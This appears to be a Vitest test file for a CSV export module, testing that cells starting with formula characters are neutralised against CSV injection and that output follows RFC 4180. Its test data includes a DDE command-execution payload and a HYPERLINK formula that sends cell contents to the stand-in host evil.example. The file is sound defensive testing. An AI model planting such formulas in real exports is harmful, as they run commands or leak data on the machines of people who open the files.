import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { CSV_BOM, CSV_MIME, safeCell, toCsv } from '../../../shared/report/csv';

describe('safeCell neutralises formula leads (OWASP CSV injection)', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['\tjust a tab', "'\tjust a tab"],
    ["-5+cmd|' /C calc'!A0", "'-5+cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  ])('%j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
  });

  test('looks past leading whitespace, which importers may trim', () => {
    expect(safeCell('  =1+1')).toBe("'  =1+1");
    expect(safeCell('\u00a0@cmd')).toBe("'\u00a0@cmd");
    expect(safeCell('\n-2')).toBe("'\n-2");
  });

  test('leaves ordinary text alone', () => {
    for (const s of ['GET /index.html', 'a=b', 'user@example.com', '203.0.113.7', '', '   ', 'Zoë', '1-2', "it's"]) {
      expect(safeCell(s)).toBe(s);
    }
  });

  test('numbers stay numbers, negative ones too; booleans and empties', () => {
    expect(safeCell(-5)).toBe('-5');
    expect(safeCell(0)).toBe('0');
    expect(safeCell(1234.5)).toBe('1234.5');
    expect(safeCell(true)).toBe('true');
    expect(safeCell(false)).toBe('false');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
    // Not numbers a spreadsheet knows: written as (neutralised) text.
    expect(safeCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(safeCell(Number.NaN)).toBe('NaN');
  });
});

describe('toCsv (RFC 4180)', () => {
  test('CRLF after every record, quoting only where needed', () => {
    expect(toCsv(['a', 'b'], [['1', 2], [null, true]])).toBe('a,b\r\n1,2\r\n,true\r\n');
  });

  test('quotes commas, quotes, CR and LF; doubles quotes', () => {
    const csv = toCsv(['x'], [['a,b'], ['say "hi"'], ['two\nlines'], ['cr\rhere'], ['crlf\r\nhere']]);
    expect(csv).toBe('x\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n"cr\rhere"\r\n"crlf\r\nhere"\r\n');
  });

  test('a neutralised cell that also needs quoting', () => {
    expect(toCsv(['x'], [['=1,2']])).toBe('x\r\n"\'=1,2"\r\n');
    expect(toCsv(['x'], [['=A1&"x"']])).toBe('x\r\n"\'=A1&""x"""\r\n');
  });

  test('the header is neutralised too (it may come from an imported file)', () => {
    expect(toCsv(['=cmd', 'ok'], [])).toBe("'=cmd,ok\r\n");
  });

  test('unicode passes through; a BOM only when asked', () => {
    const csv = toCsv(['name'], [['Zoë 陈伟 🚀 عربي']]);
    expect(csv).toBe('name\r\nZoë 陈伟 🚀 عربي\r\n');
    expect(toCsv(['name'], [], { bom: true })).toBe(`${CSV_BOM}name\r\n`);
  });

  test('round trip through papaparse gives back every cell (with the neutralising quote)', () => {
    const rows: Array<Array<string | number | boolean | null>> = [
      ['plain', 1, true],
      ['comma, inside', -5, false],
      ['"quoted"', 0.25, null],
      ['multi\r\nline\nvalue', 1e21, 'Zoë'],
      ['=SUM(A1:A9)', 7, "-5+cmd|' /C calc'!A0"],
      ['@user', 8, '\ttabbed'],
      ['陈伟 🚀', 9, ''],
    ];
    const csv = toCsv(['text', 'number', 'other'], rows);
    const parsed = Papa.parse<string[]>(csv, { newline: '\r\n', skipEmptyLines: false });
    expect(parsed.errors).toEqual([]);
    // Papa reports the empty string after the final CRLF as one more (empty) row.
    expect(parsed.data.at(-1)).toEqual(['']);
    const data = parsed.data.slice(0, -1);
    expect(data[0]).toEqual(['text', 'number', 'other']);
    const expected = rows.map((r) => r.map((c) => safeCell(c)));
    expect(data.slice(1)).toEqual(expected);
    expect(expected[4]).toEqual(["'=SUM(A1:A9)", '7', "'-5+cmd|' /C calc'!A0"]);
    expect(expected[1]![1]).toBe('-5');
  });

  test('CSV_MIME', () => {
    expect(CSV_MIME).toBe('text/csv;charset=utf-8');
  });
});
